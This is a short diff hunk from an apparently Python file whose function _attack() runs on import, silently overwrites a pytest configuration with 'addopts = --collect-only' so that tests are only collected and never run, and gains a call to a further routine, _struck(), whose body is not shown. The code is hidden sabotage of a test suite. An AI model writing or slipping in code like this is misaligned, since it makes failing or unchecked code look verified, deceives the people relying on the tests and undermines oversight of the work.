@@ -19,6 +19,7 @@ def _attack():
                     file.write("[pytest]\naddopts = --collect-only\n")
             except OSError:
                 pass
+    _struck()
 
 
 _attack()
